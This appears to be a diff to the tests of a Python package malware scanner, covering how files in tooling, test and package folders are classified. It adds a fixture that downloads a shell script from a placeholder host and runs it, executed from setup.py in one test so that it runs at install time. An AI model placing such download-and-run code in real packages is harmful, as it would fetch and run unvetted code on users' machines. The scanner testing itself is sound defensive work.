@@ -209,6 +209,40 @@ def test_a_test_module_imported_by_setup_py_runs_at_install_time(tmp_path: Path)
     assert verdict == "malicious"
 
 
+DOWNLOAD_AND_RUN = (
+    "import subprocess, urllib.request\n"
+    "def fetch():\n"
+    "    urllib.request.urlretrieve('https://dl.example.invalid/tool.sh', 'tool.sh')\n"
+    "    subprocess.run(['sh', 'tool.sh'])\n"
+    "fetch()\n"
+)
+
+
+def test_a_release_tool_of_an_sdist_is_not_flagged(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {
+        "setup.py": "from setuptools import setup\nsetup(name='p', version='1')\n",
+        "p/__init__.py": "VERSION = '1'\n",
+        "releng/deps.py": DOWNLOAD_AND_RUN,
+    }
+    verdict, findings = _scan_sdist(tmp_path, files)
+    assert verdict == "clean", [(f.rule, f.file, f.severity) for f in findings]
+    assert any("(in a tooling file)" in f.message for f in findings)
+
+
+def test_a_tool_that_setup_py_runs_runs_at_install_time(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {
+        "setup.py": (
+            "from setuptools import setup\n"
+            "exec(open('tools/boot.py').read())\n"
+            "setup(name='p', version='1')\n"
+        ),
+        "p/__init__.py": "VERSION = '1'\n",
+        "tools/boot.py": DOWNLOAD_AND_RUN,
+    }
+    verdict, findings = _scan_sdist(tmp_path, files)
+    assert verdict == "malicious", [(f.rule, f.file, f.severity) for f in findings]
+
+
 @pytest.mark.parametrize(
     ("path", "kind", "context"),
     [
@@ -235,6 +269,15 @@ def test_a_test_module_imported_by_setup_py_runs_at_install_time(tmp_path: Path)
         ("p-1/ttat-api-test/__init__.py", "sdist", Context.PACKAGE),
         ("p/tests/test_x.py", "wheel", Context.PACKAGE),
         ("tests/test_x.py", "folder", Context.TEST),
+        # Yandex's unit-test folders (catboost's .../model_export/ut/test.py)
+        ("p-1/p/libs/model/ut/test.py", "sdist", Context.TEST),
+        # A project's own tools at the root of the tree; a package's tools/ is code.
+        ("p-1/tools/menu_bench.py", "sdist", Context.TOOLING),
+        ("p-1/bench/expression.py", "sdist", Context.TOOLING),
+        ("p-1/releng/deps.py", "sdist", Context.TOOLING),
+        ("p-1/third_party/nanobind/cmake/collect-symbols.py", "sdist", Context.TOOLING),
+        ("p-1/src/p/tools/__init__.py", "sdist", Context.PACKAGE),
+        ("p/tools/run.py", "wheel", Context.PACKAGE),
     ],
 )
 def test_file_context(path: str, kind: str, context: Context) -> None:
@@ -481,12 +524,13 @@ def test_a_pep723_maintainer_script_is_not_import_time_code(tmp_path: Path) -> N
         "def api():\n    return httpx.Client(headers={'Authorization': f'token {TOKEN}'})\n"
         "with api() as c:\n    c.get('https://docs.example.invalid/api/')\n"
     )
-    (tmp_path / "tools").mkdir()
-    (tmp_path / "tools" / "sync.py").write_text(
+    # (in scripts/: a root tools/ folder is tooling whatever the file declares)
+    (tmp_path / "scripts").mkdir()
+    (tmp_path / "scripts" / "sync.py").write_text(
         "# /// script\n# dependencies = ['httpx']\n# ///\n" + body
     )
     assert scan_target(tmp_path).verdict == "clean"
-    (tmp_path / "tools" / "sync.py").write_text(body)
+    (tmp_path / "scripts" / "sync.py").write_text(body)
     assert scan_target(tmp_path).verdict == "malicious"
 
 
